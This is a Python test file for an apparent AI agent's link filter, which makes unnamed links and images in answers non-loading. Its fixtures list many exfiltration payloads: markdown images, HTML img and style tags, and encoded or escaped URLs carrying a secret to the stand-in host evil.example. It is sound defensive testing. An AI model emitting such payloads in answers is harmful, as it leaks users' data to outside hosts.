"""What a client would load or link of an answer, by the parser that many of them use."""

from __future__ import annotations

import random
import re
import threading
from collections import Counter

import pytest
from markdown_it import MarkdownIt

from plainloop.agent.base.text.addresses import find_named, to_key
from plainloop.agent.base.text.links import NOTE, SLICE_CHARS, LinkFilter, disarm_text
from tests.base.test_addresses import KINDS
from tests.linear import is_linear, measure
from tests.ticking import counted_ticks

SECRET = "born-1815"
EVIL = f"https://evil.example/p.png?d={SECRET}"
PAGE = "https://acme.example/jobs/1"
KNOWN = {*find_named(f"{PAGE} bob@acme.example https://wiki.example/A_(b)")}
# As a client gets them, in an answer that nobody named an address for.
WAYS_OUT = {
    "a picture": f"![x]({EVIL})",
    "a link": f"[x]({EVIL})",
    "a picture with a title": f'![x]({EVIL} "{SECRET}")',
    "a picture in angle brackets": f"![x](<{EVIL}>)",
    "a picture in the next line": f"![x](\n{EVIL})",
    "a link by reference": f"![x][r]\n\n[r]: {EVIL}",
    "a link by reference in the next line": f"[r]\n\n[r]:\n{EVIL}",
    "a picture without a scheme": f"![x](//evil.example/?d={SECRET})",
    "a picture with slashes that lean": rf"![x](/\evil.example/?d={SECRET})",
    "a picture in letters by number": f"![x](&#104;ttps&#58;&#47;&#47;evil.example/{SECRET})",
    "a picture with escapes": rf"![x](https\:\/\/evil.example/{SECRET})",
    "a picture from a host in numbers": f"![x](http:1249763072/{SECRET})",
    "an autolink": f"<{EVIL}>",
    "a mail in angle brackets": f"<{SECRET}@evil.example>",
    "an img": f'<img src="{EVIL}">',
    "an img without quotes and end": f"<img src=//evil.example/{SECRET}",
    "an img over lines": f'<img\nsrc="{EVIL}"\n>',
    "an a": f"<a href='{EVIL}'>x</a>",
    "a style": f"<style>@import '//evil.example/{SECRET}'</style>",
    "a picture inside code that is none": f"`` ` ![x]({EVIL})",
    "the user's address with points after it": f"![x]({PAGE}...!!..)",
    "the user's address with more after it": f"![x]({PAGE}?d={SECRET})",
    "a picture with the user's address as its title": f'![x]({EVIL} "{PAGE}")',
}
# Clients make links of these by patterns of their own: each is told what may not be left of it.
BARE = {
    EVIL: "://",
    "www.evil.example/x": "www.evil.example",
    "evil.example/x": "evil.example/",
    f"{SECRET}.evil.example": "evil.example",
    f"{SECRET}@evil.example": "@evil",
    f"//evil.example/{SECRET}": "//evil",
    f"https&#58;//evil.example/{SECRET}": "//evil",
    rf"https:\/\/evil.example/{SECRET}": r":\/\/",
    f"{PAGE}、{SECRET}": f"{PAGE}、",
    f"{PAGE}]{SECRET}": f"{PAGE}]",
    f"{PAGE}?d={SECRET}": "://",
}
UNTOUCHED = [
    f"See [the job]({PAGE}), {PAGE}, <{PAGE}> and **{PAGE}**.",
    f"![the job]({PAGE})\n\n[r]: {PAGE}",
    "Write to bob@acme.example or [Bob](mailto:bob@acme.example).",
    "[A](https://wiki.example/A_(b)) is [above](#a), or in [a file](docs/a.md).",
    "He/she is 3.5/5 sure: e.g. at 10:30, z.B. am 12.05.2026... R&D, AT&T; a < b, x<1; wait...",
    "Use `List<str>`, Node.js, v1.2.10 and 1.2.3; // a comment\n<br> or <br /> <b>x</b> [x] [y]: z",
]


def pass_on(text: str, *, pieces: int = 1) -> str:
    links = LinkFilter(KNOWN.__contains__)
    size = -(-len(text) // pieces) or 1
    shown = [links.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join(shown) + links.finish()


def list_loaded(text: str) -> list[str]:
    page = MarkdownIt("commonmark", {"html": True}).render(text)
    return re.findall(r"<[a-z][^>]*?(?:src|href|import)\s*=?\s*[\"']?([^\"'> ]+)", page)


@pytest.mark.parametrize("name", WAYS_OUT)
def test_links_and_images_of_unnamed_addresses_become_plain_text(name: str):
    shown = pass_on(WAYS_OUT[name])

    assert [url for url in list_loaded(shown) if to_key(url) not in KNOWN] == []
    assert shown.endswith(NOTE)


@pytest.mark.parametrize("text", BARE)
def test_an_unnamed_address_becomes_readable_text_without_a_link(text: str):
    shown = pass_on(f"see {text} there")

    assert BARE[text] not in shown
    assert SECRET not in text or SECRET in shown


@pytest.mark.parametrize("text", UNTOUCHED)
def test_links_that_the_user_named_are_unchanged(text: str):
    assert pass_on(text) == text


def test_the_link_filter_streams_text_without_links_at_once():
    links = LinkFilter(KNOWN.__contains__)

    assert [
        links.feed(piece) for piece in ("Yes", ".", " It", "'s", " fine", ",", " (", "7", ":")
    ] == [*("Yes", ".", " It", "'s", " fine", ",", " (", "7", ":")]


TOKENS = [
    *("https:// http: // / evil.example evil com . .. ? # @ ](".split()),
    *("![ [ ] ) ( ]:".split()),
    *(" ", "\n", "<", "<img src=", ">", '"', "'", "`", "\\"),
    *("&#58; &sol; :".split()),
    *(PAGE, *"bob@acme.example www. 。 é".split(), "\u00a0"),
    *(", !!! ** 12.5 192.168.1.1/x".split()),
    *("<br />", *"</b> | mailto: x { } ^".split()),
]


def test_the_link_filters_result_does_not_depend_on_chunks():
    chance = random.Random(24)
    for _ in range(1_000):
        text = "".join(chance.choices(TOKENS, k=chance.randint(1, 12)))
        shown = pass_on(text)

        assert pass_on(text, pieces=len(text)) == shown
        assert pass_on(shown) == shown
        loaded = [url for url in list_loaded(shown) if to_key(url) not in KNOWN]
        assert [url for url in loaded if re.match(r"https?:/+[^\[/]|//|/\\", url)] == [], text


@pytest.mark.parametrize("kind", KINDS)
def test_the_link_filter_takes_linear_time(kind: str):
    assert is_linear(pass_on, kind)


@pytest.mark.parametrize("kind", ["](", "[a](", "](\n", "](<a "])
def test_the_link_filter_handles_hostile_words_in_linear_time(kind: str):
    short, long = (((kind * size)[:size] + "x ") * (100_000 // size) for size in (100, 2_000))

    assert min(measure(pass_on, long) for _ in range(5)) < 2 * min(
        measure(pass_on, short) for _ in range(5)
    )


async def test_other_tasks_run_while_a_long_text_is_scanned():
    text = f"see {EVIL} there " * 2_000
    lookups = Counter[int]()  # by the turn of the other task in which they were made
    async with counted_ticks() as ticks:
        links = LinkFilter(lambda _: bool(lookups.update([ticks.count])))
        shown = await disarm_text(text, links)

    slices = len(text) // SLICE_CHARS - 1  # the other task may begin one later
    assert ticks.count >= slices
    assert max(lookups.values()) * slices <= sum(lookups.values()) * 2
    assert shown == pass_on(text)


async def test_the_index_of_addresses_is_built_once_and_in_a_thread():
    threads: list[threading.Thread] = []
    links = LinkFilter(KNOWN.__contains__, NOTE, lambda: threads.append(threading.current_thread()))

    assert await links.pass_on("Yes. It's fine (7: e") == "Yes. It's fine (7: e"
    assert threads == []

    await links.pass_on("vil.example/x and evil.example/y")
    assert len(threads) == 1
    assert threads[0] is not threading.current_thread()
